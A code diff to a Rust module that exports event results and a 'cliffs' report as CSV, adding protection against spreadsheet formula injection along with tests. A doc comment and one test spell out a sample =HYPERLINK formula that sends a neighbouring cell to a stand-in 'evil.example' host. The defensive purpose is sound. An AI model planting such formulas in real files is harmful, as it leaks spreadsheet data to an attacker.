@@ -1,24 +1,70 @@
 //! The cliffs report and the results as CSV (RFC 4180: comma, CRLF, quotes doubled) and the
 //! report as a Markdown brief. Both are renderings of the same [`CliffsReport`] the JSON
 //! answer serializes, so the three forms always agree.
+//!
+//! A CSV download is opened in a spreadsheet, and a spreadsheet runs a cell that starts with
+//! `=`, `+`, `-` or `@` (or a tab or carriage return before one) as a formula: a team named
+//! `=HYPERLINK("https://evil.example/?"&B3,"results")` would become a live link that sends
+//! the next cell to its author. Every CSV row is written by [`csv_row`], which passes each
+//! text cell through [`csv_field`]: such a cell gets a leading `'` (OWASP's advice), which
+//! spreadsheets read as "this is text", and is quoted. Numbers the server computed (ranks,
+//! counts, seconds, scores) are [`CsvCell::Number`]s and written as they are, so a negative
+//! number stays a number.
 
 use std::fmt::Write as _;
 
 use crate::insights::{cliffs::CliffsReport, results::Results};
 
-/// One CSV field, quoted when it needs to be.
+/// The first characters that make a spreadsheet read a cell as a formula (OWASP's list).
+const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// One text cell of a CSV file: neutralized when a spreadsheet would read it as a formula
+/// (prefixed with `'`), and quoted when it needs to be (always, once neutralized).
 pub fn csv_field(value: &str) -> String {
-    if value.contains([',', '"', '\n', '\r']) {
+    if value.starts_with(FORMULA_TRIGGERS) {
+        format!("\"'{}\"", value.replace('"', "\"\""))
+    } else if value.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", value.replace('"', "\"\""))
     } else {
         value.to_owned()
     }
 }
 
-fn csv_row(out: &mut String, fields: &[String]) {
-    let line: Vec<String> = fields.iter().map(|f| csv_field(f)).collect();
+/// A cell of a CSV row: text (names, messages, slugs, times), which may come from anyone and
+/// is neutralized, or a number the server computed, which is written as it is.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum CsvCell {
+    /// Text, written through [`csv_field`].
+    Text(String),
+    /// A number, written in decimal (`-5` stays a number).
+    Number(i64),
+}
+
+impl CsvCell {
+    fn text(value: impl Into<String>) -> Self {
+        Self::Text(value.into())
+    }
+
+    fn count(value: impl TryInto<i64>) -> Self {
+        Self::Number(value.try_into().unwrap_or(i64::MAX))
+    }
+}
+
+/// Appends one row, every text cell through [`csv_field`].
+fn csv_row(out: &mut String, cells: &[CsvCell]) {
+    let line: Vec<String> = cells
+        .iter()
+        .map(|cell| match cell {
+            CsvCell::Text(text) => csv_field(text),
+            CsvCell::Number(n) => n.to_string(),
+        })
+        .collect();
     out.push_str(&line.join(","));
     out.push_str("\r\n");
+}
+
+fn header(columns: impl IntoIterator<Item = String>) -> Vec<CsvCell> {
+    columns.into_iter().map(CsvCell::Text).collect()
 }
 
 /// Columns of the cliffs CSV, one row per cliff, in rank order.
@@ -41,27 +87,29 @@ pub const CLIFF_COLUMNS: [&str; 13] = [
 /// The report as CSV.
 pub fn cliffs_csv(report: &CliffsReport) -> String {
     let mut out = String::new();
-    csv_row(&mut out, &CLIFF_COLUMNS.map(str::to_owned));
+    csv_row(&mut out, &header(CLIFF_COLUMNS.map(str::to_owned)));
     for c in &report.cliffs {
         csv_row(
             &mut out,
             &[
-                c.rank.to_string(),
-                c.challenge.clone(),
-                c.check.clone().unwrap_or_default(),
-                c.lost_seconds.to_string(),
-                c.teams_affected.to_string(),
-                c.teams_total.to_string(),
-                c.median_stuck_seconds.to_string(),
-                c.failed_attempts.to_string(),
-                c.help_calls.to_string(),
-                c.validator_errors.to_string(),
-                c.organizations_affected.to_string(),
-                c.evidence.len().to_string(),
-                c.evidence
-                    .first()
-                    .map(|e| e.text.clone())
-                    .unwrap_or_default(),
+                CsvCell::count(c.rank),
+                CsvCell::text(&c.challenge),
+                CsvCell::text(c.check.clone().unwrap_or_default()),
+                CsvCell::Number(c.lost_seconds),
+                CsvCell::count(c.teams_affected),
+                CsvCell::count(c.teams_total),
+                CsvCell::Number(c.median_stuck_seconds),
+                CsvCell::count(c.failed_attempts),
+                CsvCell::count(c.help_calls),
+                CsvCell::count(c.validator_errors),
+                CsvCell::count(c.organizations_affected),
+                CsvCell::count(c.evidence.len()),
+                CsvCell::text(
+                    c.evidence
+                        .first()
+                        .map(|e| e.text.clone())
+                        .unwrap_or_default(),
+                ),
             ],
         );
     }
@@ -144,7 +192,7 @@ pub fn cliffs_markdown(report: &CliffsReport) -> String {
 /// event's start (empty when unsolved).
 pub fn results_csv(results: &Results) -> String {
     let mut out = String::new();
-    let mut header: Vec<String> = [
+    let columns = [
         "rank",
         "team",
         "organization",
@@ -153,23 +201,23 @@ pub fn results_csv(results: &Results) -> String {
         "last_solve_at",
     ]
     .map(str::to_owned)
-    .to_vec();
-    header.extend(results.challenges.iter().map(|c| format!("{c}_seconds")));
-    csv_row(&mut out, &header);
+    .into_iter()
+    .chain(results.challenges.iter().map(|c| format!("{c}_seconds")));
+    csv_row(&mut out, &header(columns));
     for s in &results.standings {
         let mut row = vec![
-            s.rank.to_string(),
-            s.team.clone(),
-            s.organization.clone(),
-            s.solved.to_string(),
-            s.score.to_string(),
-            s.last_solve_at.map(|t| t.to_rfc3339()).unwrap_or_default(),
+            CsvCell::count(s.rank),
+            CsvCell::text(&s.team),
+            CsvCell::text(&s.organization),
+            CsvCell::count(s.solved),
+            CsvCell::Number(s.score),
+            CsvCell::text(s.last_solve_at.map(|t| t.to_rfc3339()).unwrap_or_default()),
         ];
-        row.extend(
-            s.challenges
-                .iter()
-                .map(|c| c.solve_seconds.map(|v| v.to_string()).unwrap_or_default()),
-        );
+        // Unsolved: an empty cell, not a number.
+        row.extend(s.challenges.iter().map(|c| match c.solve_seconds {
+            Some(seconds) => CsvCell::Number(seconds),
+            None => CsvCell::text(""),
+        }));
         csv_row(&mut out, &row);
     }
     out
@@ -185,6 +233,38 @@ mod tests {
         assert_eq!(csv_field("a,b"), "\"a,b\"");
         assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
         assert_eq!(csv_field("two\nlines"), "\"two\nlines\"");
+    }
+
+    #[test]
+    fn text_a_spreadsheet_would_run_is_neutralized_and_quoted() {
+        assert_eq!(
+            csv_field("=HYPERLINK(\"https://evil.example\",\"x\")"),
+            "\"'=HYPERLINK(\"\"https://evil.example\"\",\"\"x\"\")\""
+        );
+        assert_eq!(csv_field("+1"), "\"'+1\"");
+        assert_eq!(csv_field("-2+3"), "\"'-2+3\"");
+        assert_eq!(csv_field("@SUM(A1)"), "\"'@SUM(A1)\"");
+        assert_eq!(csv_field("\t=1"), "\"'\t=1\"");
+        assert_eq!(csv_field("\r=1"), "\"'\r=1\"");
+        // Only the first character matters; a formula sign inside text is text.
+        assert_eq!(csv_field("a=b"), "a=b");
+        assert_eq!(csv_field("x, =1"), "\"x, =1\"");
+        assert_eq!(csv_field(""), "");
+    }
+
+    #[test]
+    fn numbers_stay_numbers_and_text_that_looks_like_one_is_text() {
+        let mut out = String::new();
+        csv_row(
+            &mut out,
+            &[
+                CsvCell::Number(-5),
+                CsvCell::Number(42),
+                CsvCell::text("-5"),
+                CsvCell::text(""),
+            ],
+        );
+        assert_eq!(out, "-5,42,\"'-5\",\r\n");
     }
 
     #[test]
